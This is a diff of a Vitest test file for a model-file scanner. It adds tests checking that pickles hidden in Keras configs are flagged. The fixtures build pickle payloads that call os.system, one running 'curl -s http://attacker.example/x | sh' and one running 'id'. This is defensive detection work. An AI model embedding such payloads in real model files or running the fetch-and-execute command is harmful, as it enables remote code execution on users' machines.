@@ -4,6 +4,9 @@ import { describe, expect, it } from 'vitest';
 import { BufferSource, DEFAULT_LIMITS } from '../../limits/index.js';
 import { BENIGN_LAYERS, functionalConfig, hdf5File, kerasLayer, kerasZip, lambdaLayer, zipFile } from '../../../test-fixtures/keras-builder.js';
 import { ruleIds, scanHarness } from '../../../test-fixtures/safetensors-builder.js';
+import { findingsOf, memberOf, mustScan } from '../../../test-fixtures/model-scan-helpers.js';
+import { pickle, tuple } from '../../../test-fixtures/pickle-builder.js';
+import type { Finding } from '../../findings/index.js';
 import { isKerasH5, isKerasZip, readRootAttributes, scanKeras, scanKerasArchive, scanKerasH5 } from './index.js';
 
 const REAL = new URL('../../../test-fixtures/real/', import.meta.url);
@@ -177,5 +180,23 @@ describe('legacy HDF5 files', () => {
     const m = scanHarness('model.h5', { maxHdf5Messages: 1 });
     scanKerasH5(new BufferSource(hdf5File([{ name: 'keras_version', value: '3' }, { name: 'model_config', value: '{}' }])), m.ctx);
     expect(m.findings.map((f) => [f.ruleId, f.evidence])).toEqual([['scan/limit-exceeded', 'maxHdf5Messages']]);
+  });
+});
+
+describe('serialized objects inside Keras configs', () => {
+  const evilPickle = pickle((b) => b.proto(2).global('os', 'system').value(tuple('curl -s http://attacker.example/x | sh')).reduce().stop());
+  it("TorchModuleWrapper's base64 module (torch.load on model load) is scanned", () => {
+    const layer = kerasLayer('TorchModuleWrapper', { name: 'torch_module', module: Buffer.from(evilPickle).toString('base64') }, { module: 'keras.src.utils.torch_utils' });
+    const r = mustScan(kerasZip(functionalConfig([...BENIGN_LAYERS, layer])));
+    const calls = findingsOf(r, 'pickle/dangerous-call');
+    expect(calls.map((f) => f.severity)).toEqual(['critical']);
+    expect(memberOf(calls[0] as Finding)).toContain('TorchModuleWrapper module');
+  });
+  it('__bytes__ values and other base64 strings that decode to a model format are scanned; ordinary strings are not', () => {
+    const bytesObj = { class_name: '__bytes__', config: { value: "cos\nsystem\n(S'id'\ntR." } };
+    const r = mustScan(kerasZip(functionalConfig([...BENIGN_LAYERS, kerasLayer('Dense', { name: 'd2', units: 2, note: bytesObj, blob: Buffer.from(evilPickle).toString('base64') })])));
+    expect(findingsOf(r, 'pickle/dangerous-call').length).toBe(2);
+    const clean = mustScan(kerasZip(functionalConfig([...BENIGN_LAYERS, kerasLayer('Dense', { name: 'AbCdEfGh0123456789abcdefXYZ', units: 2 })])));
+    expect(findingsOf(clean, 'pickle/dangerous-call')).toEqual([]);
   });
 });
